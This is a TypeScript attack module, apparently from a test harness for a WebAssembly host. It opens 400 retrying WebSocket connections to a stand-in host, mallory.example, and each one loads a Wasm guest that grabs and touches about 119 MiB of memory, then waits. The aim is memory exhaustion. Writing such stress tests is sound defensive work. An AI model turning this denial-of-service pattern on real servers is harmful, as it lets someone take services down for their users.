import { assemble } from '../assemble.ts';
import type { Attack } from '../attack.ts';
import { ended, openSocket } from '../clients.ts';

const CONNECTIONS = 400;
const CLIENTS = 20;
const PAGES = 1_900;
const RETRY_MS = 200;
const HANDSHAKE =
  'GET /hold.wasm HTTP/1.1\r\nHost: mallory.example\r\nConnection: Upgrade\r\n' +
  'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n' +
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n';

/** A guest of a WebSocket stays for as long as its client does, with all of its memory. */
export const websocketMemory: Attack = {
  name: 'websocket-memory',
  what: '400 WebSockets whose guests fill 119 MiB of linear memory and wait for a message',
  async prepare(stage) {
    const module = await assemble(`(module
      (import "wasi_snapshot_preview1" "fd_read" (func $read (param i32 i32 i32 i32) (result i32)))
      (memory (export "memory") 1)
      (func (export "_start") (local $at i32)
        (drop (memory.grow (i32.const ${PAGES})))
        (loop $touch
          (i32.store (local.get $at) (i32.const 7))
          (local.set $at (i32.add (local.get $at) (i32.const 4096)))
          (br_if $touch (i32.lt_u (local.get $at) (i32.mul (memory.size) (i32.const 65536)))))
        (i32.store (i32.const 0) (i32.const 16))
        (i32.store (i32.const 4) (i32.const 16))
        (drop (call $read (i32.const 0) (i32.const 0) (i32.const 1) (i32.const 8)))))`);
    stage.put('mallory', 'hold.wasm', module);
    stage.name('mallory.example', 'mallory');
  },
  async attack({ port }, signal) {
    const holdOne = async (number: number): Promise<void> => {
      while (!signal.aborted) {
        const socket = await openSocket(port, number % CLIENTS);
        signal.addEventListener('abort', () => socket.destroy());
        const over = new Promise((resolve) => socket.once('close', resolve));
        socket.resume();
        socket.write(HANDSHAKE);
        await over;
        await new Promise((resolve) => setTimeout(resolve, RETRY_MS));
      }
    };
    for (let number = 0; number < CONNECTIONS; number += 1) void holdOne(number);
    await ended(signal);
  },
};
